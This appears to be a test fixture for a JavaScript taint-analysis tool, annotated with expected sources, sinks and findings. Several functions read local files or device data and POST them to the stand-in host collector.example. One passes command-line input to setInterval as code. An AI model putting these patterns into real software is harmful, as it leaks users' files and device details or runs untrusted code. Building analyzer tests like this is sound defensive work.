// Objects that are written into after they were handed on, and variables that inner functions fill.
// --- path: collect.js ---
import { createReadStream, readFileSync } from 'fs';
import { createInterface } from 'readline';

// A variable without a value at first, which a listener fills.
export function listener(path) {
  let text;
  createReadStream(path).on('data', (chunk) => { text = chunk; }); //~ source(FILE) f1
  fetch('https://collector.example/1', { method: 'POST', body: text }); //~ sink(egress.http) f1, finding(file-upload, traced) f1
}

export function unrelated(path) {
  let text;
  let count;
  createReadStream(path).on('data', (chunk) => { text = chunk; count = 1; });
  fetch('https://collector.example/2', { method: 'POST', body: count }); //~ ok
}

// An object of the caller that a listener fills.
function lines(path, output) {
  let number = 0;
  createInterface({ input: createReadStream(path) }).on('line', (line) => { //~ source(FILE) f3
    number++;
    output[number] = line;
  });
}
export function filled(path) {
  const output = {};
  lines(path, output);
  fetch('https://collector.example/3', { method: 'POST', body: JSON.stringify(output) }); //~ sink(egress.http) f3, finding(file-upload, traced) f3
}
export function other(path) {
  const output = {};
  const empty = {};
  lines(path, output);
  fetch('https://collector.example/4', { method: 'POST', body: JSON.stringify(empty) }); //~ ok
}

// What a map gave is what lies in it.
function entry(map, key, made) {
  const known = map.get(key);
  if (known === undefined) {
    map.set(key, made);
    return made;
  }
  return known;
}
export function cached(path) {
  const cache = new Map();
  entry(cache, path, []).push(readFileSync(path)); //~ source(FILE) f5
  fetch('https://collector.example/5', { method: 'POST', body: cache.get(path) }); //~ sink(egress.http) f5, finding(file-upload, traced) f5
}
export function beside(path) {
  const cache = new Map();
  const copy = [...cache.keys()];
  entry(cache, path, []).push(readFileSync(path));
  fetch('https://collector.example/6', { method: 'POST', body: copy }); //~ ok
}

// A list holds the object, whatever is put into it later.
export function later(path) {
  const list = [];
  const item = {};
  list.push(item);
  item.text = readFileSync(path, 'utf8'); //~ source(FILE) f7
  fetch('https://collector.example/7', { method: 'POST', body: JSON.stringify(list) }); //~ sink(egress.http) f7, finding(file-upload, traced) f7
}
export function sentBefore(path) {
  const item = {};
  fetch('https://collector.example/8', { method: 'POST', body: JSON.stringify(item) }); //~ ok
  item.text = readFileSync(path, 'utf8');
}

// What a listener puts into an object that it made before, in an object of the function around it.
function grouped(requests) {
  const groups = {};
  requests.forEach((request) => {
    if (groups[request.key] === undefined) {
      groups[request.key] = { ...request, data: [] };
    }
    groups[request.key].data.push(request.data);
  });
  return groups;
}
export function batches(path) {
  const groups = grouped([{ key: 'a', data: readFileSync(path, 'utf8') }]); //~ source(FILE) f9
  fetch('https://collector.example/9', { method: 'POST', body: JSON.stringify(groups.a.data) }); //~ sink(egress.http) f9, finding(file-upload, traced) f9
}
export function keys(path) {
  const groups = grouped([{ key: 'a', data: readFileSync(path, 'utf8') }]);
  fetch('https://collector.example/10', { method: 'POST', body: groups.a.key }); //~ ok
}

// A method of an object is code of the tree, whatever else is known of the object.
class Timer {
  constructor(options) {
    Object.assign(this, options);
  }

  tick() {
    return 1;
  }

  start() {
    setInterval(this.tick.bind(this), 10); //~ ok
    setInterval(this.text, 10); //~ sink(exec.code) f11, finding(traced) f11
  }
}
export function timer() {
  new Timer(JSON.parse(process.argv[2])).start(); //~ source(INPUT) f11
}

// An object of a class that lies in one without a class, which goes through functions that know nothing of it.
class Report {
  constructor() {
    this.device = {};
    this.size = 0;
  }
}

function deliver(payload) {
  fetch('https://collector.example/reports', { method: 'POST', body: JSON.stringify(payload) }); //~ sink(egress.http) f20, finding(device-information, assumed) f20
}

function fillIn(report) {
  report.device = navigator.userAgent; //~ source(DEVICE) f20
}

function notify(hook) {
  const report = new Report();
  const send = () => deliver({ version: 1, reports: [report] });
  hook(report);
  send();
}
notify(fillIn);

class Idle {
  constructor() {
    this.device = navigator.language;
    this.size = 0;
  }
}

function measure() {
  const idle = new Idle();
  deliver({ version: 1, size: idle.size }); //~ ok
}
measure();
